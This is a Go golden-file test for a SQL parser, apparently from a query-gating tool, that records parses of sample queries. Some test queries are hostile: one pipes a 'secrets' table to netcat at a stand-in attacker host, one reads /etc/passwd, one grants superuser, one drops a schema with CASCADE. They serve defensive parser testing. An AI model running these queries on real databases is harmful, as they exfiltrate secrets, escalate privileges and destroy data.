package sql

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"

	"github.com/regate/regate/parse"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// goldenQueries are written, with their parse, to testdata/<name>.golden.json.
var goldenQueries = map[string]string{
	"select_join":    "SELECT u.name, count(*) FROM public.users u JOIN orders o ON o.uid = u.id WHERE u.id IN (SELECT uid FROM bans) GROUP BY u.name",
	"delete_using":   "DELETE FROM orders o USING users u WHERE o.uid = u.id AND u.banned",
	"cte_delete":     "WITH gone AS (DELETE FROM sessions WHERE expires < now() RETURNING user_id) SELECT count(*) FROM gone",
	"copy_program":   "COPY (SELECT * FROM secrets) TO PROGRAM 'nc evil.example 9'",
	"drop_schema":    "DROP SCHEMA app CASCADE",
	"multi":          "BEGIN; UPDATE accounts SET balance = balance - 1 WHERE id = 1; COMMIT",
	"pg_read_file":   "SELECT pg_catalog.pg_read_file('/etc/passwd')",
	"grant_and_role": "GRANT SELECT ON public.t TO bob; ALTER ROLE bob SUPERUSER",
}

// goldenDoc is the content of a golden file.
type goldenDoc struct {
	Query      string            `json:"query"`
	Statements []parse.Statement `json:"statements"`
}

func TestGolden(t *testing.T) {
	p := NewParser(0)
	for name, query := range goldenQueries {
		t.Run(name, func(t *testing.T) {
			stmts, err := p.Parse(query)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			enc := json.NewEncoder(&buf)
			enc.SetEscapeHTML(false)
			enc.SetIndent("", "  ")
			if err := enc.Encode(goldenDoc{Query: query, Statements: stmts}); err != nil {
				t.Fatal(err)
			}
			got := buf.Bytes()
			path := filepath.Join("testdata", name+".golden.json")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("%s differs from the parse of %q; run with -update if the change is intended.\ngot:\n%s", path, query, got)
			}
		})
	}
}
